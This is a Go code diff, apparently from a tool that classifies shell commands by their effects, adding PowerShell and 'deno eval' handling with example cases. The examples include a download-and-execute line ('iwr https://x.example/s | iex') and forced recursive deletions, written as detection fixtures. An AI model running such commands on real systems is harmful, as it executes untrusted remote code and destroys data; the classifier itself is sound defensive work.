@@ -18,9 +18,11 @@ func interpPrograms() []program {
 		{names: []string{"lua", "luajit", "Rscript", "R", "tclsh", "osascript", "julia", "ts-node", "tsx", "swift", "groovy", "scala", "elixir", "erl", "escript"}, model: interpreter("e", "", "l", ""),
 			examples: []example{ex("lua -l m s.lua", "exec /home/u/proj/s.lua", "!exec /home/u/proj/m")}},
 		{names: []string{"deno"}, model: (*call).deno,
-			examples: []example{ex("deno run -A x.ts", "exec /home/u/proj/x.ts"), ex("deno publish", "tag publish")}},
-		{names: []string{"pwsh", "powershell"}, model: interpreter("c", "", "f", ""),
-			examples: []example{ex("pwsh -c 'Get-ChildItem'", "exec")}},
+			examples: []example{ex("deno run -A x.ts", "exec /home/u/proj/x.ts"), ex("deno publish", "tag publish"),
+				ex("deno eval 'Deno.removeSync(\"/x\", {recursive: true})'", "delete /x")}},
+		{names: []string{"pwsh", "powershell", "powershell.exe", "pwsh.exe"}, model: (*call).pwsh,
+			examples: []example{ex("pwsh -c 'Get-ChildItem'", "exec"), ex("pwsh -NoProfile -Command 'Remove-Item -Recurse -Force /x'", "delete:r /x"),
+				ex("pwsh -File build.ps1", "exec /home/u/proj/build.ps1"), ex("pwsh -c 'iwr https://x.example/s | iex'", "tag remote-exec")}},
 	}
 }
 
@@ -264,6 +266,14 @@ func (k *call) deno() {
 		}
 	case "eval":
 		k.eff(Effect{Kind: Exec, Reason: "inline code (deno eval)"})
+		p := parseOpts(k.args[1:], spec{long: []string{"ext", "config", "import-map", "lock", "cert", "location", "seed", "v8-flags", "inspect", "env-file"}})
+		if len(p.ops) > 0 {
+			code := joinCode(p.ops)
+			if !code.known {
+				k.dynamicExec("deno eval runs code not known at check time")
+			}
+			k.inlineCode(code, "js")
+		}
 	case "install", "add", "cache":
 		k.eff(Effect{Kind: Network, Target: "jsr.io"})
 	case "publish":
